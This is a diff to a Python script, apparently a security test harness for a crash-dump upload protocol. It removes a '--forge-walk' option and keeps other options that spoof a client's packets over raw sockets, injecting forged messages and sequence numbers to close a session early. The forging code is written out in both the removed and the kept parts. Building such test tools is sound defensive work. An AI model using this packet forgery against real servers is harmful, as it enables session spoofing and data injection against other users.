@@ -203,10 +203,9 @@ def forge_finished(a, c):
     call, sends a KDH and a FINISHED forged (IP_HDRINCL) from the
     client's own address and port to its session's port, as anyone can
     (the port is found by trying them all); with --forge-seqno, messages
-    numbered far ahead and a FINISHED numbered next after them; with
-    --forge-walk, numbers walked up within reach, then FINISHED. None
-    without any."""
-    if not a.forge_finished and not a.forge_seqno and not a.forge_walk:
+    numbered far ahead and a FINISHED numbered next after them. None
+    without either."""
+    if not a.forge_finished and not a.forge_seqno:
         return None
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
@@ -217,26 +216,7 @@ def forge_finished(a, c):
         calls[0] += 1
         if calls[0] == 1:
             first.append(pkts[0])
-        if calls[0] == 2 and a.forge_walk:
-            # Numbers walked up 64 at a time, each in a copy of the
-            # client's first packet (taken: the same bytes), then
-            # FINISHED numbered next: every number within one call of
-            # the last, as a kernel's are.
-            _, _, off0, p0 = first[0]
-            seq = pkts[0][0] - 1	# the highest number taken so far
-            for _ in range(16):
-                seq += 64
-                raw.sendto(forged(c.addr, CLIENT_PORT, SERVER, c.sport,
-                                  msg(VMCORE, seq, off0, p0)), (SERVER, 0))
-                c.sent_seqs.add(seq)
-                time.sleep(0.005)
-            raw.sendto(forged(c.addr, CLIENT_PORT, SERVER, c.sport,
-                              msg(FINISHED, seq + 1)), (SERVER, 0))
-            c.sent_seqs.add(seq + 1)
-            time.sleep(0.2)
-            note("forged numbers walked to %d and FINISHED to port %d"
-                 % (seq, c.sport))
-        elif calls[0] == 2 and a.forge_seqno:
+        if calls[0] == 2 and a.forge_seqno:
             # The forger picks the numbers: a VMCORE the server drops
             # (beyond max_dump_size), a copy of the client's first
             # packet (the same bytes: taken), then FINISHED numbered
@@ -966,9 +946,6 @@ def main():
     d.add_argument("--no-finished", action="store_true")
     d.add_argument("--forge-finished", action="store_true",
                    help="forge a FINISHED from the client before call 2")
-    d.add_argument("--forge-walk", action="store_true",
-                   help="before call 2, forge messages numbered up 64 at a "
-                   "time and a FINISHED numbered next after them")
     d.add_argument("--forge-seqno", action="store_true",
                    help="before call 2, forge messages numbered far ahead "
                    "and a FINISHED numbered next after them")
